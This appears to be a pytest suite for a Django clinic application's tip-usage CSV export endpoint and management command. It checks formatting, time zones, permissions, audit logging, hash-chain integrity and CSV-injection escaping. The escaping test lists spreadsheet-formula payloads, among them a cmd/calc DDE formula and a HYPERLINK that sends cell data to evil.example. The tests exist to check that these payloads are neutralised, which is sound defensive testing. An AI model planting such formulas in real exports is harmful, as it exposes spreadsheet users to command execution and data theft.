"""`GET /api/v1/exports/tip-usage.csv` and `manage.py export_tip_usage`."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from clinic.models import AuditEvent, Role
from tests.audit.conftest import seal
from tests.factories import HandpieceFactory, UserFactory
from tests.factories.treatments import TipLotFactory
from treatments import exports

URL = "/api/v1/exports/tip-usage.csv"
CONTRACT_COLUMNS = (
    "used_at,lot_number,lot_expires_on,session_id,series_id,patient_id,provider,handpiece_serial"
)
HEADER = CONTRACT_COLUMNS + (
    ",treatment_id,gtin,depths,max_depth_mm,provider_name,record_sequence,record_hash"
    ",acknowledged_warnings"  # v1.1
)


def body(response) -> str:
    assert response.streaming is True
    return b"".join(response.streaming_content).decode()


def rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body(response))))


@pytest.fixture
def winter_and_summer(make_record, lot_a1, handpiece, provider):
    """Two records in New York: one in winter (EST), one in summer (EDT, with microseconds)."""
    provider.full_name = "Dr Ada Lovelace, MD"
    provider.save()
    winter = make_record(
        datetime(2025, 1, 15, 15, 30, tzinfo=UTC), lot=lot_a1, handpiece=handpiece, notes="x"
    )
    summer = make_record(
        datetime(2025, 7, 1, 14, 0, 0, 123456, tzinfo=UTC),
        lot=lot_a1,
        depths=[("neck", "1.75")],
        acknowledged_warnings=("keloid_history", "diabetes"),
    )
    seal()
    winter.refresh_from_db()
    summer.refresh_from_db()
    return winter, summer


@pytest.mark.django_db
def test_the_csv_row_by_row(api, auditor, winter_and_summer, lot_a1, provider):
    winter, summer = winter_and_summer
    response = api(auditor).get(URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="tip-usage-all.csv"'
    expires = lot_a1.expires_on.isoformat()
    assert body(response).splitlines() == [
        HEADER,
        f"2025-01-15T10:30:00-05:00,LOT-A1,{expires},{winter.session_id},"
        f"{winter.session.series_id},{winter.patient_id},{provider.id},SP-0042,{winter.id},"
        f'00812345000019,cheeks:1.25;forehead:0.50,1.25,"Dr Ada Lovelace, MD",1,{winter.hash},',
        f"2025-07-01T10:00:00.123456-04:00,LOT-A1,{expires},{summer.session_id},"
        f"{summer.session.series_id},{summer.patient_id},{provider.id},,{summer.id},"
        f'00812345000019,neck:1.75,1.75,"Dr Ada Lovelace, MD",2,{summer.hash},'
        "keloid_history;diabetes",
    ]
    assert body(api(auditor).get(URL + "/")).startswith(CONTRACT_COLUMNS + ",")


@pytest.mark.django_db
def test_used_at_parses_back_to_the_instant(api, admin, winter_and_summer):
    winter, summer = winter_and_summer
    parsed = [datetime.fromisoformat(row["used_at"]) for row in rows(api(admin).get(URL))]
    assert parsed == [winter.performed_at, summer.performed_at]


@pytest.mark.django_db
def test_dates_are_the_clinics_days_inclusive(api, auditor, make_record, lot_a1):
    late = make_record(datetime(2025, 3, 11, 3, 30, tzinfo=UTC), lot=lot_a1)  # 10 March, 23:30 EDT
    early = make_record(datetime(2025, 3, 11, 4, 0, tzinfo=UTC), lot=lot_a1)  # 11 March, 00:00 EDT
    client = api(auditor)

    def exported(**params) -> list[str]:
        response = client.get(URL, params)
        assert response.status_code == 200
        return [row["treatment_id"] for row in rows(response)]

    assert exported(to="2025-03-10") == [str(late.id)]
    assert exported(**{"from": "2025-03-11"}) == [str(early.id)]
    assert exported(**{"from": "2025-03-10", "to": "2025-03-11"}) == [str(late.id), str(early.id)]
    assert exported(**{"from": "2025-03-12"}) == []


@pytest.mark.django_db
def test_lot_by_id_or_number(api, auditor, make_record, lot_a1, clinic, other_clinic, provider):
    other_lot = TipLotFactory(clinic=clinic, lot_number="LOT-B2", received_by=provider)
    foreign_lot = TipLotFactory(clinic=other_clinic, lot_number="LOT-B2")
    mine = make_record(datetime(2025, 5, 1, 12, tzinfo=UTC), lot=lot_a1)
    other = make_record(datetime(2025, 5, 2, 12, tzinfo=UTC), lot=other_lot)
    client = api(auditor)

    def exported(value: str) -> list[str]:
        return [row["treatment_id"] for row in rows(client.get(URL, {"lot": value}))]

    assert exported(str(lot_a1.id)) == [str(mine.id)]
    assert exported("LOT-B2") == [str(other.id)]
    # Another clinic's lot is no lot at all; so is an unknown number. The header stays.
    assert exported(str(foreign_lot.id)) == []
    assert exported("NOPE") == []
    assert body(client.get(URL, {"lot": "NOPE"})) == HEADER + "\n"


@pytest.mark.django_db
def test_another_clinics_records_are_not_exported(
    api, other_clinic, make_user, make_record, lot_a1
):
    make_record(datetime(2025, 5, 1, 12, tzinfo=UTC), lot=lot_a1)
    other_auditor = make_user(Role.AUDITOR, other_clinic)
    assert body(api(other_auditor).get(URL)) == HEADER + "\n"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2025-03-12", "to": "2025-03-11"}, "to"),
        ({"from": "12/03/2025"}, "from"),
        ({"lot": "x" * 65}, "lot"),
        # Past the years a day's bounds can be computed in (was a 500, answered as HTML).
        ({"to": "9999-12-31"}, "to"),
        ({"from": "0001-01-01"}, "from"),
        ({"to": "20250311"}, "to"),
        ({"from": "2025-3-11"}, "from"),
    ],
)
def test_bad_parameters_are_400(api, auditor, params, field):
    response = api(auditor).get(URL, params)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    assert (response.json()["code"], list(response.json()["errors"])) == ("invalid", [field])
    assert not AuditEvent.objects.filter(action="export.tip_usage").exists()


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.FRONT_DESK, Role.PROVIDER])
def test_every_role_but_auditor_and_admin_is_403(api, make_user, clinic, role):
    user = make_user(role, clinic)
    response = api(user).get(URL, HTTP_ACCEPT="text/csv")
    assert response.status_code == 403
    assert response["Content-Type"] == "application/problem+json"
    assert response.json()["code"] == "permission_denied"
    denied = AuditEvent.objects.get(actor=user)
    assert (denied.action, denied.outcome) == ("tip_usage_export.get", "denied")


@pytest.mark.django_db
def test_anonymous_is_401(api):
    assert api().get(URL).status_code == 401


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.ADMIN, Role.AUDITOR])
def test_each_export_is_one_audit_event(api, make_user, clinic, role):
    user = make_user(role, clinic)
    response = api(user).get(URL, {"from": "2025-01-01", "lot": "LOT-A1"}, HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    body(response)
    (event,) = AuditEvent.objects.all()
    assert (event.actor_id, event.action, event.object_type, event.object_id, event.detail) == (
        user.id,
        "export.tip_usage",
        "export",
        "tip-usage.csv",
        {"from": "2025-01-01", "to": None, "lot": "LOT-A1"},
    )
    assert event.request_id == response["X-Request-ID"]


@pytest.mark.django_db
def test_rows_arrive_in_chunks(clinic, make_record, lot_a1):
    for day in range(1, 4):
        make_record(datetime(2025, 5, day, 12, tzinfo=UTC), lot=lot_a1)
    query = exports.tip_usage_query(clinic, used_from=None, used_to=None, lot=None)
    chunks = list(exports.copy_chunks(query, chunk_bytes=100))
    assert len(chunks) == 4  # the header, then each row, passes 100 bytes on its own
    assert [n for _chunk, n in chunks] == [0, 1, 1, 1]
    assert exports.count_tip_usage(query) == 3
    # The connection's time zone is as it was.
    with connection.cursor() as cursor:
        cursor.execute("SHOW TimeZone")
        assert cursor.fetchone() == ("UTC",)


@pytest.mark.django_db
def test_the_command_writes_what_the_api_serves(api, auditor, winter_and_summer, clinic, tmp_path):
    output = tmp_path / "usage.csv"
    err = io.StringIO()
    call_command(
        "export_tip_usage",
        "--clinic",
        str(clinic.id),
        "--from",
        "2025-01-01",
        "--output",
        str(output),
        stderr=err,
    )
    served = body(api(auditor).get(URL, {"from": "2025-01-01"}))
    assert output.read_text() == served
    assert "2 rows written" in err.getvalue()
    assert "Treatment records' hash chain: ok (2 linked)" in err.getvalue()
    event = AuditEvent.objects.get(actor_label="manage.py export_tip_usage")
    assert (event.clinic_id, event.action, event.detail) == (
        clinic.id,
        "export.tip_usage",
        {"from": "2025-01-01", "to": None, "lot": None},
    )


@pytest.mark.django_db
def test_the_command_names_the_first_broken_link(winter_and_summer, clinic, tmp_path):
    winter, _summer = winter_and_summer
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE treatments_treatmentrecord SET lot_number = 'LOT-Z' WHERE id = %s", [winter.id]
        )
    output = tmp_path / "usage.csv"
    with pytest.raises(CommandError) as raised:
        call_command(
            "export_tip_usage", "--clinic", str(clinic.id), "--output", str(output), verbosity=0
        )
    assert str(raised.value) == (
        f"Treatment records' hash chain is broken: treatments_treatmentrecord id={winter.id} "
        "sequence=1: hash does not match the row's content: the row was altered"
    )
    assert output.read_text().splitlines()[1].split(",")[1] == "LOT-Z"


@pytest.mark.django_db
def test_the_command_refuses_bad_arguments(clinic, tmp_path):
    with pytest.raises(CommandError, match="--to must not be before --from"):
        call_command(
            "export_tip_usage",
            "--clinic",
            str(clinic.id),
            "--from",
            "2025-02-01",
            "--to",
            "2025-01-01",
            "--output",
            str(tmp_path / "x.csv"),
        )
    with pytest.raises(CommandError):  # dates are ISO days only
        call_command(
            "export_tip_usage", "--clinic", str(clinic.id), "--from", "1/2/2025", "--output", "x"
        )


@pytest.mark.django_db
def test_a_download_abandoned_half_way_leaves_the_connection_usable(clinic, make_record, lot_a1):
    for day in range(1, 4):
        make_record(datetime(2025, 5, day, 12, tzinfo=UTC), lot=lot_a1)
    query = exports.tip_usage_query(clinic, used_from=None, used_to=None, lot=None)
    chunks = exports.copy_chunks(query, chunk_bytes=100)
    assert next(chunks)[0].startswith(b"used_at,")
    chunks.close()  # the client went away: the COPY is cancelled on the server
    assert exports.count_tip_usage(query) == 3
    with connection.cursor() as cursor:
        cursor.execute("SHOW TimeZone")
        assert cursor.fetchone() == ("UTC",)


@pytest.mark.django_db
def test_depths_are_the_current_ones_after_amendments(api, auditor, make_record, lot_a1, provider):
    """The CSV and the FHIR Procedure read one selector (treatments.selectors.current_values)."""
    from treatments import selectors
    from treatments import services as treatment_services

    record = make_record(datetime(2025, 5, 1, 12, tzinfo=UTC), lot=lot_a1)
    untouched = make_record(datetime(2025, 5, 2, 12, tzinfo=UTC), lot=lot_a1)
    record = selectors.treatment_records().get(pk=record.pk)
    treatment_services.amend_treatment(
        actor=provider, record=record, reason="Wrong area", depths=[("chin", Decimal("0.75"))]
    )
    record = selectors.treatment_records().get(pk=record.pk)
    treatment_services.amend_treatment(actor=provider, record=record, reason="Typo", notes="ok")
    record = selectors.treatment_records().get(pk=record.pk)
    current = selectors.current_values(record)

    exported = rows(api(auditor).get(URL))
    assert [(row["treatment_id"], row["depths"], row["max_depth_mm"]) for row in exported] == [
        (str(record.id), "chin:0.75", "0.75"),
        (str(untouched.id), "cheeks:1.25;forehead:0.50", "1.25"),
    ]
    assert (current.depths, current.max_depth_mm, current.notes) == (
        (("chin", Decimal("0.75")),),
        Decimal("0.75"),
        "ok",
    )


# Each cell as a person could have typed it, and as the CSV must write it (OWASP CSV injection).
FORMULAS = {
    "=1+2*cmd|' /C calc'!A0": "'=1+2*cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1-2": "'+1-2",
    "-2+3": "'-2+3",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "A=1": "A=1",
    "SP 42": "SP 42",
}


@pytest.fixture
def formulas(make_record, clinic, provider):
    """One record per value above, typed as its lot number, handpiece serial and staff name."""
    records = {}
    for n, typed in enumerate(FORMULAS):
        provider.full_name = typed
        provider.save()
        lot = TipLotFactory(clinic=clinic, lot_number=typed, received_by=provider, gtin="")
        handpiece = HandpieceFactory(clinic=clinic, serial_number=typed)
        records[typed] = make_record(
            datetime(2025, 5, 1, 12, n, tzinfo=UTC), lot=lot, handpiece=handpiece
        )
    return records


def _cells(csv_text: str) -> list[tuple[str, str, str]]:
    return [
        (row["lot_number"], row["handpiece_serial"], row["provider_name"])
        for row in csv.DictReader(io.StringIO(csv_text, newline=""))
    ]


@pytest.mark.django_db
def test_spreadsheet_formulas_are_written_as_text(api, auditor, formulas):
    # The provider's name is the last one saved: every row shows it.
    last = list(FORMULAS.values())[-1]
    cells = _cells(body(api(auditor).get(URL)))
    assert cells == [(written, written, last) for written in FORMULAS.values()]


@pytest.mark.django_db
def test_staff_names_that_are_formulas_are_written_as_text(
    api, auditor, make_record, lot_a1, clinic
):
    for n, typed in enumerate(FORMULAS):
        performer = UserFactory(clinic=clinic, role=Role.PROVIDER, full_name=typed)
        make_record(datetime(2025, 5, 1, 12, n, tzinfo=UTC), lot=lot_a1, performer=performer)
    names = [row["provider_name"] for row in rows(api(auditor).get(URL))]
    assert names == list(FORMULAS.values())


@pytest.mark.django_db
def test_the_command_writes_formulas_as_text_too(clinic, formulas, tmp_path):
    output = tmp_path / "usage.csv"
    call_command(
        "export_tip_usage",
        "--clinic",
        str(clinic.id),
        "--output",
        str(output),
        "--no-verify",
        verbosity=0,
    )
    last = list(FORMULAS.values())[-1]
    cells = _cells(output.read_bytes().decode())
    assert cells == [(written, written, last) for written in FORMULAS.values()]
